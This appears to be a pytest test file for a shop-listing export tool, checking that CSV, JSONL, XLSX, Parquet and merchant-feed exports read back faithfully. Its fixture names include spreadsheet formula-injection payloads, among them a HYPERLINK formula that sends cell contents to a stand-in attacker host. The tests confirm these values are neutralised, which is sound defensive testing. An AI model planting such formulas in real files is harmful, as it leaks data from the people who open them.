"""Exports read back by other libraries, from a database with what shops publish at its worst."""

from __future__ import annotations

import csv
import errno
import json
import os
import threading
from collections.abc import Iterator
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from jsonschema import Draft202012Validator
from lxml import etree
from pyarrow import parquet
from xlsxwriter import Workbook
from xlsxwriter.exceptions import FileCreateError

from storebot.core.export.columns import LISTINGS, Kind, chosen
from storebot.core.export.filters import parse
from storebot.db.database import Database
from storebot.exceptions import ConfigurationError, ExportFailed
from storebot.exports.destinations import Folder, destination
from storebot.exports.format import format_of, formats
from storebot.exports.formats import xlsx
from storebot.exports.formats.xlsx import XLSX
from storebot.exports.running import Order, export, scratch_for
from storebot.exports.verifying import faults, manifest_in
from storebot.items import Availability
from tests.db.shop import HOUR, NOW, STORE, Worker, listing, parsed

NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "@SUM(1+1)",
    'Box 12" ; red\r\nline2 😀',
    "kr 4\x16 00",
    "שלום עולם",
    "one, two; three",
    "-12 °C",
    "'quoted",
]
SKUS = ["90.750", "1E5", "MAR1", "00000000000000000017", "1-2", None, "0012", "=1"]


def order(what: str = "listings", names: str = "csv,jsonl,xlsx,parquet", **more: Any) -> Order:
    kinds = [format_of(name, what) for name in names.split(",")]
    return Order(**{"store": STORE, "what": what, "formats": kinds, "columns": chosen(what, ()), **more})


def run(database: Database, folder: Path, wanted: Order, stamp: str = "1") -> tuple[Path, dict[str, Any]]:
    to = destination(str(folder), STORE, wanted.what, stamp)
    with scratch_for(to) as scratch:
        found = export(database, wanted, to, scratch)
    return Path(to.shown), found


def fill(database: Database) -> Worker:
    """Have listings whose texts are what formats stumble over."""
    worker = Worker(database)
    worker.discover(*(str(number) for number in range(len(NAMES))))
    for number, (target, name, sku) in enumerate(zip(worker.pending(), NAMES, SKUS, strict=True)):
        one = listing(
            name,
            1000 + number,
            sku=sku,
            gtin="06932169358293",
            currency=["EUR", "JPY", "KWD"][number % 3],
            options={"Größe": "L", "=x": "+y"} if number % 2 else {},
            category_path=("Haus & Garten", "Töpfe"),
            description="z" * 40_000 if number == 1 else None,
        )
        worker.save(parsed(target, one))
    return worker


@pytest.fixture
def worst(sqlite_url: str) -> Iterator[Database]:
    database = Database.open(sqlite_url)
    fill(database)
    yield database
    database.dispose()


def test_each_format_reads_back_as_the_rows(database: Database, tmp_path: Path) -> None:
    """Cases O01, O04, O07, O08, O12."""
    fill(database)
    folder, found = run(database, tmp_path, order())
    assert found["rows"] == len(NAMES)
    assert [*faults(folder, found)] == []
    read = {"csv": _csv(folder), "jsonl": _jsonl(folder), "parquet": _parquet(folder), "xlsx": _xlsx(folder)}
    truth = read["jsonl"]
    assert [row["name"] for row in truth] == NAMES
    assert [row["sku"] for row in truth] == SKUS
    assert [row["price"] for row in truth][:3] == ["10.00", "1001", "1.002"]
    for row, exact in zip(read["csv"], truth, strict=True):
        safe = exact["name"][:1] in "=@-"
        assert row["name"] == ("'" if safe else "") + exact["name"]
        assert (row["gtin"], row["price"]) == (exact["gtin"], exact["price"])
        assert json.loads(row["options"] or "{}") == exact["options"]
        assert row["description"] == (exact["description"] or "")
    for row, exact in zip(read["parquet"], truth, strict=True):
        assert (row["name"], row["sku"], row["category_path"]) == (exact["name"], exact["sku"], exact["category_path"])
        assert row["price"] == Decimal(exact["price"])
        assert dict(row["options"]) == exact["options"]
        assert row["last_seen_at"] == datetime.fromisoformat(exact["last_seen_at"])
    for row, exact in zip(read["xlsx"], truth, strict=True):
        assert row["name"] == exact["name"].replace("\x16", "�").replace("\r\n", "\n")
        assert (row["sku"], row["gtin"]) == (exact["sku"], exact["gtin"])
        assert Decimal(str(row["price"])) == Decimal(exact["price"])
        assert row["last_seen_at (UTC)"] == datetime.fromisoformat(exact["last_seen_at"]).replace(tzinfo=None)
        assert len(row["description"] or "") <= 32_767
    notes = {one["name"]: one["notes"] for one in found["files"]}
    assert notes["listings.csv"] == {"neutralised": 4}
    assert notes["listings.xlsx"] == {"replaced": 1, "truncated": 1}
    assert notes["listings.jsonl"] == {}


def test_the_schema_describes_each_line(worst: Database, tmp_path: Path) -> None:
    for what in ("listings", "changes", "offers"):
        folder, found = run(worst, tmp_path, order(what, "jsonl"), what)
        check = Draft202012Validator(json.loads((folder / f"{what}.schema.json").read_text()))
        lines = [json.loads(line) for line in (folder / f"{what}.jsonl").read_text().splitlines()]
        assert len(lines) == found["rows"]
        assert [error.message for line in lines for error in check.iter_errors(line)] == []


def test_merchant_feeds_hold_what_google_takes(worst: Database, tmp_path: Path) -> None:
    folder, found = run(worst, tmp_path, order(names="merchant,merchant-xml"))
    with (folder / "listings.merchant.tsv").open(newline="") as file:
        rows = [*csv.DictReader(file, delimiter="\t")]
    items = etree.parse(folder / "listings.merchant.xml").findall("channel/item")
    google = "{http://base.google.com/ns/1.0}"
    assert [row["title"] for row in rows] == [" ".join(name.split()) for name in NAMES]
    assert [item.findtext(f"{google}title") for item in items] == [
        " ".join(name.split()).replace("\x16", "�") for name in NAMES
    ]
    assert [row["price"] for row in rows][:3] == ["10.00 EUR", "1001 JPY", "1.002 KWD"]
    assert [item.findtext(f"{google}id") for item in items] == [row["id"] for row in rows]
    assert [*faults(folder, found)] == []


def test_more_rows_than_a_sheet_holds_go_to_the_next(tmp_path: Path) -> None:
    """Case O06, at a limit of 4 rows."""
    columns = chosen("listings", ["name", "sku"])
    book = XLSX(tmp_path / "many.xlsx", "listings", columns, most_rows=4)
    book.write([{"name": f"n{number}", "sku": "1"} for number in range(7)])
    book.close()
    sheets = openpyxl.load_workbook(tmp_path / "many.xlsx").worksheets
    assert [(sheet.title, sheet.max_row) for sheet in sheets] == [("Listings", 4), ("Listings 2", 4), ("Listings 3", 2)]
    assert [sheet["A2"].value for sheet in sheets] == ["n0", "n3", "n6"]
    assert (sheets[0].freeze_panes, sheets[0].auto_filter.ref) == ("A2", "A1:B4")
    assert XLSX.count(tmp_path / "many.xlsx") == 7


def test_a_workbook_that_the_disk_has_no_room_for_is_said(
    worst: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    close = Workbook.close

    def full(book: Workbook) -> None:
        close(book)  # or its temporary files stay open
        raise FileCreateError(OSError(errno.ENOSPC, "No space left on device"))

    monkeypatch.setattr(Workbook, "close", full)
    with pytest.raises(ExportFailed, match=r"can't be written: listings\.xlsx: .*No space left on device"):
        run(worst, tmp_path, order(names="xlsx"))
    assert os.listdir(tmp_path / STORE) == []


def test_filters_and_columns(worst: Database, tmp_path: Path) -> None:
    text = ["currency=EUR", "price>10.00"]
    wanted = order(
        names="csv", columns=chosen("listings", ["sku", "name"]), filters=parse("listings", text), filters_text=text
    )
    folder, found = run(worst, tmp_path, wanted)
    assert [[*row.values()] for row in _csv(folder)] == [[SKUS[3], NAMES[3]], [SKUS[6], "'" + NAMES[6]]]
    assert (found["columns"], found["filters"]) == (["sku", "name"], text)


def test_no_rows_are_files_with_nothing_in_them(sqlite_url: str, tmp_path: Path) -> None:
    """Case O09: 0 rows."""
    database = Database.open(sqlite_url)
    folder, found = run(database, tmp_path, order(names=",".join(formats())))
    assert (found["rows"], found["status"]) == (0, "partial")
    assert [*faults(folder, found)] == []
    assert (folder / "listings.csv").read_text().count("\n") == 1
    database.dispose()


def test_a_record_as_of_a_time(database: Database, tmp_path: Path) -> None:
    worker = Worker(database)
    worker.known("1")
    for hours, price in ((1, 2500), (2, 3000)):
        (target,) = worker.due()
        worker.save(parsed(target, listing(price_minor=price), at=NOW + hours * HOUR))
    prices = []
    for number, hours in enumerate((0, 1, 2)):
        folder, _ = run(database, tmp_path, order(names="jsonl", as_of_ms=NOW + hours * HOUR), str(number))
        prices += [row["price"] for row in _jsonl(folder)]
    assert prices == ["19.99", "25.00", "30.00"]
    folder, _ = run(database, tmp_path, order(names="jsonl", as_of_ms=NOW - 1), "before")
    assert _jsonl(folder) == []
    folder, _ = run(database, tmp_path, order("changes", "jsonl", since_ms=NOW + 2 * HOUR), "changes")
    assert [row["fields"] for row in _jsonl(folder, "changes")] == [
        [{"field": "price_minor", "before": 2500, "after": 3000}]
    ]


def test_rows_that_come_during_an_export_are_of_the_next(database: Database, tmp_path: Path) -> None:
    """Case O11."""
    worker = fill(database)

    def write(_: int) -> None:
        other = threading.Thread(target=lambda: worker.known("late"))
        other.start()
        other.join(20)
        assert not other.is_alive()

    wanted = order(names="csv")
    to = Folder(str(tmp_path), STORE, "listings", "1")
    with scratch_for(to) as scratch:
        found = export(database, wanted, to, scratch, write)
    assert found["rows"] == sum(found["listings_by_status"].values()) == len(NAMES)
    _, after = run(database, tmp_path, wanted, "2")
    assert after["rows"] == len(NAMES) + 1


def test_what_fails_leaves_the_export_before_it(worst: Database, tmp_path: Path) -> None:
    """Case O09: an export that dies."""
    folder, found = run(worst, tmp_path, order(names="csv"))
    to = Folder(str(tmp_path), STORE, "listings", "2")
    with pytest.raises(RuntimeError, match="power cut"), scratch_for(to) as scratch:
        export(worst, order(names="csv"), to, scratch, _fail)
    assert sorted(os.listdir(tmp_path / STORE)) == ["1-listings", "latest-listings.json"]
    assert manifest_in(tmp_path / STORE) == (folder, found)


def _fail(_: int) -> None:
    raise RuntimeError("power cut")


def test_an_export_that_was_touched_is_found_out(worst: Database, tmp_path: Path) -> None:
    folder, found = run(worst, tmp_path, order())
    lines = (folder / "listings.csv").read_bytes()
    (folder / "listings.csv").write_bytes(lines.replace(b"10.00", b"11.00"))
    (folder / "listings.jsonl").write_bytes(b"")
    (folder / "listings.parquet").unlink()
    said = [sentence.partition(": ")[2] for sentence in faults(folder, found)]
    assert said[0].startswith("its SHA-256 is not the manifest's")
    assert said[1].startswith("has 0 bytes, and the manifest says")
    assert said[2] == "is missing"
    assert len(said) == 3
    (folder / "manifest.json").unlink()
    with pytest.raises(ExportFailed, match="that is no export, or one that was not finished"):
        manifest_in(folder)


def test_a_folder_that_cannot_be_made_is_said(worst: Database, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(ExportFailed, match="the export can't be written"):
        run(worst, tmp_path / "file", order(names="csv"))


def test_unknown_formats_and_places_are_refused() -> None:
    with pytest.raises(ConfigurationError, match="there is no format 'doc': choose of csv, csv-bom, jsonl"):
        format_of("doc", "listings")
    with pytest.raises(ConfigurationError, match="merchant holds listings, not changes"):
        format_of("merchant", "changes")
    with pytest.raises(ConfigurationError, match="--out gopher://"):
        destination("gopher://x", STORE, "listings", "1")


def test_availability_of_a_row_is_schema_orgs_word(worst: Database, tmp_path: Path) -> None:
    folder, _ = run(worst, tmp_path, order(names="csv"))
    assert {row["availability"] for row in _csv(folder)} == {Availability.IN_STOCK.value}


def _csv(folder: Path) -> list[dict[str, str]]:
    with (folder / "listings.csv").open(encoding="utf-8", newline="") as file:
        return [*csv.DictReader(file)]


def _jsonl(folder: Path, what: str = "listings") -> list[dict[str, Any]]:
    return [json.loads(line) for line in (folder / f"{what}.jsonl").read_text().splitlines()]


def _parquet(folder: Path) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = parquet.read_table(folder / "listings.parquet").to_pylist()
    return rows


def _xlsx(folder: Path) -> Iterator[dict[str, Any]]:
    sheet = openpyxl.load_workbook(folder / "listings.xlsx").worksheets[0]
    head = [str(cell.value) for cell in sheet[1]]
    assert head == [column.name + (" (UTC)" if column.kind is Kind.TIME else "") for column in LISTINGS]
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type in ("s", "n", "d", "inlineStr") for cell in row)
        yield dict(zip(head, [cell.value for cell in row], strict=True))


def test_a_text_of_several_lines_stays_in_its_row(tmp_path: Path) -> None:
    """Seen in LibreOffice: it drew the first line over the row above."""
    book = XLSX(tmp_path / "lines.xlsx", "listings", chosen("listings", ["name", "sku"]))
    book.write([{"name": "one", "sku": "1"}, {"name": "one\r\ntwo", "sku": "2"}])
    book.close()
    (sheet,) = openpyxl.load_workbook(tmp_path / "lines.xlsx").worksheets
    assert [sheet[name].alignment.wrap_text for name in ("A2", "A3", "B3")] == [None, True, None]
    assert sheet["A3"].alignment.vertical == "top"
    assert (sheet.row_dimensions[2].height, sheet.row_dimensions[3].height) == (None, 14.25)
    assert sheet["A3"].number_format == "@"


def test_more_links_than_a_sheet_holds_are_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Excel repairs a sheet of more than 65,530 links, and takes them away."""
    monkeypatch.setattr(xlsx, "MOST_LINKS", 3)
    book = XLSX(tmp_path / "links.xlsx", "listings", chosen("listings", ["url", "main_image"]), most_rows=6)
    book.write([{"url": f"https://a.example/{number}", "main_image": "https://a.example/i"} for number in range(7)])
    book.close()
    first, second = openpyxl.load_workbook(tmp_path / "links.xlsx").worksheets
    for sheet in (first, second):
        links = [cell.hyperlink.target for row in sheet.iter_rows() for cell in row if cell.hyperlink]
        assert len(links) == 3
    assert [row[0].value for row in first.iter_rows(min_row=2)] == [f"https://a.example/{one}" for one in range(5)]
